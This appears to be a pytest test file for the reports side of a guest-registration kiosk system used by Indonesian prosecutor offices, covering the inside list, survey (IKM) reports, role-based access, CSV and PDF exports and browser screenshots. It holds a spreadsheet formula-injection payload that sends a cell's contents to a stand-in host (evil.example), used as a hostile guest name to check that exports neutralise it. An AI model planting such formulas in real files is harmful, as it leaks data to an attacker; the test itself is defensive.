"""The desk's reports on a real `kiosk central serve` (PostgreSQL): the inside-now / evacuation list, the SKM/IKM
and service-standard reports per office and across offices (read-only Kejati / national accounts that never see a
person), the CSV (formula-safe) and PDF downloads, a real kiosk's sync pushing a registration and a survey answer
to the desk, and the pages in Debian's chromium with screenshots (test-artifacts/desk-reports)."""
from __future__ import annotations

import base64
import csv
import io
import re
import time
import uuid
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import requests

from tests.fixtures_sync import OFFICE, ROOT, TOKEN, CentralProcess, wait_for
from tests.test_desk import PASSWORD, _chromium, login

OTHER = "KEJARI-DPS"
OTHER_TOKEN = "kc1_other-office-token-for-reports-000000000000"
ARTIFACTS = ROOT / "test-artifacts" / "desk-reports"
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
TZ = ZoneInfo("Asia/Makassar")
ANSWERS_A = [(4, 4, 3, 4, 3, 3, 4, 4, 3), (3, 3, 3, 4, 3, 2, 3, 3, 3), (4, 3, 4, 4, 4, 3, 4, 3, 4)]
ANSWERS_B = [(2, 3, 2, 4, 2, 2, 3, 2, 3), (3, 2, 2, 4, 3, 3, 2, 2, 2)]


def _iso(at: datetime) -> str:
    return at.isoformat(timespec="milliseconds")


def _push(srv, office, token, path, body):
    r = requests.post(f"{srv.url}/v1/offices/{office}{path}", json=body, timeout=10,
                      headers={"Authorization": f"Bearer {token}", "Idempotency-Key": str(uuid.uuid4())})
    assert r.status_code in (200, 201), r.text
    return r


def visit(srv, *, office=OFFICE, token=TOKEN, nama="Budi Santoso", ago_min=40, purpose="meet_employee",
          steps=(("waiting_host", "accepted", 10), ("accepted", "inside", 12)), photo=False, loker=None,
          institution="") -> str:
    """A visit registered `ago_min` minutes ago and the transitions after it (minutes after registration)."""
    vid = str(uuid.uuid4())
    created = datetime.now(UTC) - timedelta(minutes=ago_min)
    body = {"visit_id": vid, "device_id": "lobby-1", "created_at": _iso(created), "state": "waiting_host",
            "purpose": purpose, "nama": nama, "satker": "Kejari", "no_identitas": "5105014101900007",
            "no_hp": "081234567890", "alamat": "Jl. Melati 3", "host_id": "kasi-pidum", "nama_pejabat": "Kasi Pidum",
            "tipe_tamu": "Instansi" if institution else "Umum",
            "detail": f"Bertemu pegawai - {institution}" if institution else "Bertemu pegawai"}
    if photo:
        body["photo"] = base64.b64encode((ROOT / "assets" / "sim" / "flow" / "guest.jpg").read_bytes()).decode()
    _push(srv, office, token, "/visits", body)
    if loker is not None:
        _push(srv, office, token, f"/visits/{vid}/events", {
            "event_id": str(uuid.uuid4()), "kind": "locker_assigned", "at": _iso(created + timedelta(minutes=1)),
            "actor": "kiosk", "device_id": "lobby-1", "data": {"door": loker}})
    for frm, to, after in steps:
        _push(srv, office, token, f"/visits/{vid}/events", {
            "event_id": str(uuid.uuid4()), "kind": "transition", "from_state": frm, "to_state": to,
            "at": _iso(created + timedelta(minutes=after)), "actor": "test", "device_id": "lobby-1"})
    return vid


def survey(srv, answers, *, office=OFFICE, token=TOKEN, **profile) -> str:
    rid = str(uuid.uuid4())
    _push(srv, office, token, "/surveys", {"response_id": rid, "device_id": "survey-1",
                                           "created_at": _iso(datetime.now(UTC) - timedelta(minutes=5)),
                                           "answers": list(answers), **profile})
    return rid


@pytest.fixture(scope="module")
def central(tmp_path_factory, postgres_server):
    work = tmp_path_factory.mktemp("desk-reports")
    srv = CentralProcess(postgres_server.create_database(), work, seed_config=ROOT / "config" / "simulate.toml")
    srv.start()
    srv.store.issue_credential(OTHER, "test-devices", token=OTHER_TOKEN)
    from kiosk.central.desk import DeskStore

    accounts = DeskStore(srv.store.engine, srv.store.keys)
    for office, name, role in ((OFFICE, "ani", "ptsp"), (OFFICE, "kajari", "head"), (OFFICE, "dedi", "host"),
                               (OTHER, "budi", "ptsp")):
        accounts.add_user(office, name, role, PASSWORD)
    accounts.add_user("KEJATI-BALI", "kejati", "kejati", PASSWORD, scope=[OFFICE, OTHER])
    accounts.add_user("NASIONAL", "pusat", "national", PASSWORD)
    # The office's day: guests inside (one with a hostile name, one on the way in), one gone, a late one, a
    # complaint answered within the clock; survey answers with a hostile profile value; another office's data.
    srv.inside = [visit(srv, nama="Siti Rahma", photo=True, loker=7, institution="PT Maju"),
                  visit(srv, nama=HOSTILE, ago_min=30),
                  visit(srv, nama="Wayan Sudarma", ago_min=5, steps=(("waiting_host", "accepted", 3),))]
    srv.gone = visit(srv, nama="Sudah Pulang", steps=(("waiting_host", "accepted", 5), ("accepted", "inside", 6),
                                                      ("inside", "checked_out", 30)))
    visit(srv, nama="Lama Menunggu", ago_min=90, steps=(("waiting_host", "accepted", 50), ("accepted", "inside", 52),
                                                         ("inside", "checked_out", 70)))
    visit(srv, nama="Pelapor", ago_min=60, purpose="pengaduan", steps=(("waiting_host", "accepted", 20),
                                                                       ("accepted", "checked_out", 40)))
    for a in ANSWERS_A:
        survey(srv, a, sex="P", age_group="=1+1", education="S1")
    visit(srv, office=OTHER, token=OTHER_TOKEN, nama="Tamu Denpasar")
    for b in ANSWERS_B:
        survey(srv, b, office=OTHER, token=OTHER_TOKEN)
    yield srv
    srv.stop()


def period_q(days=1) -> str:
    today = datetime.now(TZ).date()
    return f"from={(today - timedelta(days=days)).isoformat()}&to={today.isoformat()}&unit=month"


def sess(central, name, office=OFFICE):
    s, r = login(central, name, office=office)
    assert r.status_code == 303, r.text
    return s, r


def test_survey_answers_are_stored_once_without_personal_data_and_a_changed_repeat_is_refused(central):
    rid = str(uuid.uuid4())
    body = {"response_id": rid, "device_id": "survey-1", "created_at": _iso(datetime.now(UTC)),
            "answers": [4, 4, 4, 4, 4, 4, 4, 4, 4], "comment": "Pelayanan cepat, terima kasih Pak Made"}
    h = {"Authorization": f"Bearer {TOKEN}", "Idempotency-Key": "k-" + rid}
    url = f"{central.url}/v1/offices/{OFFICE}/surveys"
    assert requests.post(url, json=body, headers=h, timeout=10).status_code == 201
    again = requests.post(url, json=body, headers=h, timeout=10)
    assert again.status_code == 200 and again.json()["status"] == "duplicate"
    changed = requests.post(url, json={**body, "answers": [1] * 9}, headers=h, timeout=10)
    assert changed.status_code == 409
    for bad in ({**body, "answers": [5] * 9}, {**body, "answers": [4] * 8}, {**body, "response_id": "x"},
                {**body, "answers": [True] * 9}, {**body, "answers": ["3"] * 9}, {**body, "answers": [3.5] * 9}):
        r = requests.post(url, json=bad, headers=h, timeout=10)
        assert r.status_code == 400 and "reason" in r.json()
    # Another office's credential cannot write here.
    r = requests.post(url, json={**body, "response_id": str(uuid.uuid4())}, timeout=10,
                      headers={"Authorization": f"Bearer {OTHER_TOKEN}"})
    assert r.status_code == 403
    row = central.rows("select u1, u9, comment_enc from survey_responses where response_id = :r", r=rid)[0]
    assert row[:2] == (4, 4) and "Pak Made" not in row[2]
    with central.store.engine.begin() as conn:  # keep the report's figures to the fixture's answers
        from sqlalchemy import text

        conn.execute(text("delete from survey_responses where response_id = :r"), {"r": rid})


def test_the_inside_list_shows_who_is_inside_or_on_the_way_in_and_is_audited(central):
    s, _ = sess(central, "ani")
    page = s.get(f"{central.url}/desk/{OFFICE}/inside", timeout=10)
    assert page.status_code == 200
    ids = re.findall(r'id="in-([0-9a-f-]{36})"', page.text)
    assert set(ids) == set(central.inside), "inside and accepted, never the checked-out or another office"
    assert "Sudah Pulang" not in page.text and "Tamu Denpasar" not in page.text
    assert "Siti Rahma" in page.text and "PT Maju" in page.text and "Kasi Pidum" in page.text
    assert "belum tercatat masuk" in page.text  # the accepted guest on the way in is marked
    assert "5105014101900007" not in page.text
    assert 'id="count">Jumlah orang: 3' in page.text
    # The photo is a signed same-origin link that serves the JPEG; the other guests have none.
    photo = re.search(r'<img class="thumb" src="([^"]+)"', page.text).group(1).replace("&amp;", "&")
    assert photo.startswith(f"/v1/offices/{OFFICE}/visits/{central.inside[0]}/photo?exp=")
    img = requests.get(central.url + photo, timeout=10)
    assert img.status_code == 200 and img.content[:3] == b"\xff\xd8\xff"
    assert requests.get(central.url + photo.replace("sig=", "sig=0"), timeout=10).status_code == 403
    # Locker and the hostile name (escaped in HTML).
    row = re.search(rf'id="in-{central.inside[0]}".*?</tr>', page.text, re.S).group(0)
    assert ">7<" in row
    assert "&#34;http://evil.example" in page.text or "&quot;http://evil.example" in page.text
    seen = {r[0] for r in central.rows("select visit_id from desk_audit where action = 'seen' and actor = 'user:ani'")}
    assert set(central.inside) <= seen


def test_the_inside_csv_writes_hostile_names_as_text_and_is_audited(central):
    s, _ = sess(central, "ani")
    r = s.get(f"{central.url}/desk/{OFFICE}/inside.csv", timeout=10)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[0] == ["nama", "instansi", "tuan_rumah", "masuk", "status", "loker"]
    names = [row[0] for row in rows[1:]]
    assert "'" + HOSTILE in names and HOSTILE not in names
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for row in rows for cell in row)
    exported = central.rows("select count(*) from desk_audit where action = 'exported' and actor = 'user:ani'")[0][0]
    assert exported >= 3


def test_who_may_read_which_page(central):
    kejati, r = sess(central, "kejati", office="KEJATI-BALI")
    assert r.headers["location"] == "/desk/KEJATI-BALI/reports"
    host, _ = sess(central, "dedi")
    other, _ = sess(central, "budi", office=OTHER)
    for client, path, status in (
        (kejati, f"/desk/{OFFICE}/inside", 403), (kejati, f"/desk/{OFFICE}/inside.csv", 403),
        (kejati, f"/desk/{OFFICE}/today", 403), (kejati, f"/desk/{OFFICE}/reports?{period_q()}", 200),
        (kejati, f"/desk/KEJARI-XYZ/reports?{period_q()}", 403),
        (host, f"/desk/{OFFICE}/inside", 403), (host, f"/desk/{OFFICE}/reports", 403),
        (other, f"/desk/{OFFICE}/inside", 403), (other, f"/desk/{OFFICE}/reports", 403),
        (other, f"/desk/{OFFICE}/reports/skm.csv", 403), (other, f"/desk/{OFFICE}/reports.pdf", 403),
        (requests.Session(), f"/desk/{OFFICE}/reports/skm.csv", 401),
    ):
        got = client.get(central.url + path, allow_redirects=False, timeout=10)
        assert got.status_code == status, (path, got.status_code)
        assert "Siti Rahma" not in got.text
    anon = requests.get(f"{central.url}/desk/{OFFICE}/reports", allow_redirects=False, timeout=10)
    assert anon.status_code == 303 and anon.headers["location"].startswith("/desk/login")
    s, _ = sess(central, "kajari")
    bad = s.get(f"{central.url}/desk/{OFFICE}/reports?from=2026-13-01&to=x", timeout=10)
    assert bad.status_code == 400 and "Periode tidak sah" in bad.text and "Traceback" not in bad.text


def test_the_office_report_has_the_domain_ikm_the_service_standards_and_the_complaint_clock(central):
    from kiosk.domain.survey import compute_ikm

    s, _ = sess(central, "kajari")
    page = s.get(f"{central.url}/desk/{OFFICE}/reports?{period_q()}", timeout=10)
    assert page.status_code == 200
    expected = compute_ikm(ANSWERS_A)
    assert f"IKM {expected.ikm_rounded}</strong>" in page.text
    assert f'grade-{expected.category.letter}">{expected.category.letter}' in page.text
    assert "Responden 3" in page.text
    for e in expected.elements:
        assert f"{float(e.nrr):.3f}" in page.text
    assert page.text.count("<svg") >= 3 and "<script" not in page.text.split("<main>")[1]
    # Waiting (registered -> host's answer): 10, 10, 3, 5, 50, 20 minutes; limit 30 -> 5 of 6 within.
    row = re.search(r'data-standard="waiting".*?</tr>', page.text, re.S).group(0)
    cells = re.findall(r'class="num">([^<]*)<', row)
    assert cells[1].strip() == "6" and cells[2].startswith("5 (83.3%)"), cells
    complaints = " ".join(re.search(r'<p id="complaints">(.*?)</p>', page.text, re.S).group(1).split())
    assert complaints.startswith("Pengaduan (dijawab dalam 3 jam kerja): 1 · Tepat waktu 0 · Terlambat 0 · Belum selesai 1")
    # No person on a report page.
    for name in ("Siti Rahma", "Lama Menunggu", "Pelapor", "evil.example"):
        assert name not in page.text


def test_the_cross_office_view_is_aggregates_only(central):
    from kiosk.domain.survey import compute_ikm

    for name, office in (("kejati", "KEJATI-BALI"), ("pusat", "NASIONAL")):
        s, _ = sess(central, name, office=office)
        page = s.get(f"{central.url}/desk/{office}/reports?{period_q()}", timeout=10)
        assert page.status_code == 200
        offices = re.findall(r'class="office-row" data-office="([^"]+)"', page.text)
        assert OFFICE in offices and OTHER in offices
        assert f"IKM {compute_ikm(ANSWERS_A + ANSWERS_B).ikm_rounded}</strong>" in page.text  # pooled answers
        assert str(compute_ikm(ANSWERS_B).ikm_rounded) in page.text
        for person in ("Siti Rahma", "Tamu Denpasar", "evil.example", "0007", "Kasi Pidum"):
            assert person not in page.text
        assert 'id="nav-inside"' not in page.text and 'id="nav-today"' not in page.text


def test_the_csv_downloads_are_formula_safe_and_match_the_page(central):
    from kiosk.domain.survey import compute_ikm

    s, _ = sess(central, "kajari")
    r = s.get(f"{central.url}/desk/{OFFICE}/reports/skm.csv?{period_q()}", timeout=10)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["kantor", "periode", "responden"] and rows[0][-3:] == ["ikm", "mutu", "mutu_kata"]
    whole = rows[1]
    expected = compute_ikm(ANSWERS_A)
    assert whole[0] == OFFICE and whole[2] == "3" and whole[-3] == str(expected.ikm_rounded)
    r = s.get(f"{central.url}/desk/{OFFICE}/reports/service.csv?{period_q()}", timeout=10)
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    waiting = next(row for row in rows if row[1] == "waiting")
    assert waiting[4:6] == ["6", "5"]
    # The complaint made at the kiosk is a case of the intel queue (kiosk.central.complaints), not yet answered.
    complaint = next(row for row in rows if row[1] == "complaint_answer")
    assert complaint[4:6] == ["1", "0"] and complaint[8] == "1"
    profile = [row for row in rows if row[1] == "profil_age_group"]
    assert profile and profile[0][2] == "'=1+1"  # a device's profile value is text, not a formula
    assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for row in rows for cell in row)


def test_the_pdf_download_is_an_a4_document_with_the_figures(central):
    import zlib

    from kiosk.domain.survey import compute_ikm

    for name, office in (("kajari", OFFICE), ("kejati", "KEJATI-BALI")):
        s, _ = sess(central, name, office=office)
        r = s.get(f"{central.url}/desk/{office}/reports.pdf?{period_q()}", timeout=10)
        assert r.status_code == 200 and r.headers["content-type"] == "application/pdf"
        assert r.content.startswith(b"%PDF-") and b"/MediaBox [0 0 595.28 841.89]" in r.content
        text = b"".join(zlib.decompress(m) for m in re.findall(rb"stream\n(.*?)\nendstream", r.content, re.S)).decode("cp1252")
        answers = ANSWERS_A if office == OFFICE else ANSWERS_A + ANSWERS_B
        assert f"IKM {compute_ikm(answers).ikm_rounded}" in text
        assert "Siti Rahma" not in text
        (ARTIFACTS / f"report-{office}.pdf").parent.mkdir(parents=True, exist_ok=True)
        (ARTIFACTS / f"report-{office}.pdf").write_bytes(r.content)


def test_a_real_kiosk_registration_and_survey_answer_reach_the_desk(central, make_config, tmp_path):
    """The kiosk's own registration service and outbox worker push to the central process; the desk's rows
    fragment shows the guest (polled, no timed assertion: the latency is measured in bench/desk.py)."""
    import dataclasses

    from kiosk.app.context import AppContext
    from kiosk.domain.clock import SystemClock
    from tests.fixtures_sync import register

    cfg = make_config({"central": {"url": central.url, "token": TOKEN, "retry_base_s": 0.01, "retry_max_s": 0.1},
                       "kiosk": {"role": "guest", "device_id": "lobby-9"}, "notifier": {"kind": "none"}})
    cfg = dataclasses.replace(cfg, kiosk=dataclasses.replace(cfg.kiosk, data_dir=str(tmp_path / "data")))
    ctx = AppContext(cfg, clock=SystemClock())
    try:
        s, _ = sess(central, "ani")
        visit_ = register(ctx, 4242)
        started = time.monotonic()
        ctx.sync.drain_once()
        wait_for(lambda: "Tamu Nomor 4242" in s.get(f"{central.url}/desk/{OFFICE}/today/rows", timeout=10).text,
                 timeout=20, step=0.1)
        print(f"kiosk registration on the desk's rows after {time.monotonic() - started:.2f} s")
        assert visit_.id in s.get(f"{central.url}/desk/{OFFICE}/today/rows", timeout=10).text
        # A survey answer on the kiosk reaches the central report.
        before = central.rows("select count(*) from survey_responses where office = :o", o=OFFICE)[0][0]
        response = ctx.surveys.record((4, 3, 4, 4, 3, 4, 4, 3, 4), visit_id=visit_.id)
        ctx.sync.drain_once()
        stored = wait_for(lambda: central.rows("select u1, u2, u9, visit_id, device_id from survey_responses "
                                               "where response_id = :r", r=response.id), timeout=20)
        assert stored[0] == (4, 3, 4, visit_.id, "lobby-9")
        assert central.rows("select count(*) from survey_responses where office = :o", o=OFFICE)[0][0] == before + 1
    finally:
        with central.store.engine.begin() as conn:  # the other tests count the fixture's answers only
            from sqlalchemy import text

            conn.execute(text("delete from survey_responses where device_id = 'lobby-9'"))
        ctx.close()


# --- the browser ---

@pytest.fixture(scope="module")
def browser():
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    b = _chromium()
    yield b
    b.quit()


def _login(browser, central, name, office=OFFICE):
    from selenium.webdriver.common.by import By

    browser.delete_all_cookies()
    browser.get(f"{central.url}/desk/login?office={office}")
    browser.find_element(By.ID, "name").send_keys(name)
    browser.find_element(By.ID, "password").send_keys(PASSWORD)
    browser.find_element(By.ID, "submit").click()


def _shot(browser, name, full=True):
    if full:  # the whole page, not just the window
        h = browser.execute_script("return document.documentElement.scrollHeight")
        w = browser.get_window_size()["width"]
        browser.set_window_size(w, max(800, min(h + 120, 4000)))
    browser.save_screenshot(str(ARTIFACTS / f"{name}.png"))


@pytest.mark.slow
def test_in_chromium_the_inside_list_prints_on_a4_and_the_reports_draw_their_charts(central, browser):
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    wait = WebDriverWait(browser, 10)
    browser.set_window_size(1280, 800)
    _login(browser, central, "ani")
    wait.until(lambda b: b.find_elements(By.ID, "nav-inside"))
    browser.find_element(By.ID, "nav-inside").click()
    wait.until(lambda b: b.find_elements(By.ID, "inside-rows"))
    wait.until(lambda b: b.execute_script(
        "var i = document.querySelector('img.thumb'); return i && i.complete && i.naturalWidth > 0"))
    assert len(browser.find_elements(By.CSS_SELECTOR, "#inside-rows tr[data-state]")) == 3
    _shot(browser, "inside-desktop")
    # Print: A4 portrait through chromium's own printing; the buttons and the menu are gone on paper.
    browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"media": "print"})
    assert not browser.find_element(By.ID, "print").is_displayed()
    browser.set_window_size(794, 1123)  # A4 at 96 dpi
    browser.save_screenshot(str(ARTIFACTS / "inside-print.png"))
    browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"media": ""})
    pdf = browser.execute_cdp_cmd("Page.printToPDF", {"paperWidth": 8.27, "paperHeight": 11.69, "printBackground": True,
                                                      "preferCSSPageSize": True})
    raw = base64.b64decode(pdf["data"])
    (ARTIFACTS / "inside-print.pdf").write_bytes(raw)
    assert raw.startswith(b"%PDF") and raw.count(b"/Type /Page") - raw.count(b"/Type /Pages") == 1
    browser.set_window_size(390, 844)
    _shot(browser, "inside-phone")

    browser.set_window_size(1280, 800)
    browser.get(f"{central.url}/desk/{OFFICE}/reports?{period_q()}")
    wait.until(lambda b: b.find_elements(By.ID, "chart-nrr"))
    bars = browser.find_elements(By.CSS_SELECTOR, "#chart-nrr rect.bar")
    assert len(bars) == 9 and all(float(b.get_attribute("width")) > 0 for b in bars)
    assert browser.find_elements(By.CSS_SELECTOR, "#chart-service rect.bar")
    _shot(browser, "reports-office")
    browser.find_element(By.ID, "lang").click()
    wait.until(lambda b: "Service standards" in b.page_source)
    browser.set_window_size(390, 844)
    _shot(browser, "reports-office-phone-en")
    browser.find_element(By.ID, "lang").click()
    wait.until(lambda b: "Standar pelayanan" in b.page_source)

    browser.set_window_size(1280, 800)
    _login(browser, central, "kejati", office="KEJATI-BALI")
    wait.until(lambda b: b.find_elements(By.ID, "chart-offices"))
    assert len(browser.find_elements(By.CSS_SELECTOR, "tr.office-row")) == 2
    assert "Siti Rahma" not in browser.page_source
    _shot(browser, "reports-kejati")


def test_the_cli_adds_a_kejati_account_only_with_its_offices(central):
    import subprocess
    import sys

    def add(*args):
        return subprocess.run([sys.executable, "-m", "kiosk", "central", "user", "add", *args], input=PASSWORD + "\n",
                              capture_output=True, text=True, cwd=ROOT, env=central.env(), timeout=60)

    p = add("--office", "KEJATI-NTT", "--role", "kejati", "--name", "kajati")
    assert p.returncode == 2 and len(p.stderr.strip().splitlines()) == 1 and "--scope" in p.stderr
    assert "Traceback" not in p.stderr
    p = add("--office", OFFICE, "--role", "ptsp", "--name", "eka", "--scope", OTHER)
    assert p.returncode == 2 and "--scope" in p.stderr
    p = add("--office", "KEJATI-NTT", "--role", "kejati", "--name", "kajati", "--scope", f"{OTHER}, kejari-klk")
    assert p.returncode == 0, p.stderr
    assert central.rows("select scope from desk_users where name = 'kajati'")[0][0] == f"{OTHER} {OFFICE}"


def test_erasing_a_guest_keeps_their_survey_answers_but_not_the_link(central):
    vid = visit(central, nama="Minta Dihapus", steps=(("waiting_host", "declined", 2),))
    rid = survey(central, (3, 3, 3, 3, 3, 3, 3, 3, 3))
    with central.store.engine.begin() as conn:
        from sqlalchemy import text

        conn.execute(text("update survey_responses set visit_id = :v where response_id = :r"), {"v": vid, "r": rid})
    r = requests.post(f"{central.url}/v1/offices/{OFFICE}/erasures", json={"request_id": str(uuid.uuid4()), "visit_ids": [vid]},
                      headers={"Authorization": f"Bearer {TOKEN}"}, timeout=10)
    assert r.status_code in (200, 201) and r.json()["visits_deleted"] == 1
    assert central.rows("select visit_id, u1 from survey_responses where response_id = :r", r=rid) == [(None, 3)]
    with central.store.engine.begin() as conn:
        conn.execute(text("delete from survey_responses where response_id = :r"), {"r": rid})
